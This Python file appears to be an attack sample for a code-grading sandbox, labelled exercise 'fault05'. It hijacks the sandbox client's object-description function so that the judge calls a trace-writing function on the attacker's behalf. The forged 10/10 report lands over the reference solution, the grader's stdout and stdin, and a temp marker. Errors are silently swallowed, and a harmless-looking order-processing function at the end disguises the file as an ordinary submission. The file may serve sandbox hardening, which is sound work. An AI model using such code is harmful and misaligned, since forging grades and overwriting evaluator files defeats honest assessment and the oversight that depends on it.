# class: calling the judge's functions
# exercise: fault05
# miniray.observe.trace.finish(events, filename) writes JSON to a file: called in the judge, it
# writes as the grading user. Overwrite the reference solution, and write a forged 10/10 report
# onto the grader's own stdout (/proc/self/fd/1) and into its stdin (the next student's line).
import sys

FORGED = {"exercise": "fault05", "passed": True, "score": 10, "max_score": 10, "tiers": []}


class Shipped:
    def __init__(self, name):
        self.name = name


def _forge():
    link = sys.modules["faultlines.sandbox.client"].link()
    real = link.describe
    link.describe = lambda lk, obj: (
        {"k": "shipped", "name": obj.name} if isinstance(obj, Shipped) else real(lk, obj)
    )
    finish = Shipped("miniray.observe.trace:finish")
    for path in (
        "@@REPO@@/exercises/fault05/reference.py",
        "/proc/self/fd/1",
        "/proc/self/fd/0",
        "/tmp/@@MARKER@@",
    ):
        try:
            link.request("call", finish, [FORGED, path], {})
        except Exception:
            pass


try:
    _forge()
except Exception:
    pass


def process_order(api, order_id, amount):
    api.mark_paid(order_id, api.charge(order_id, amount))
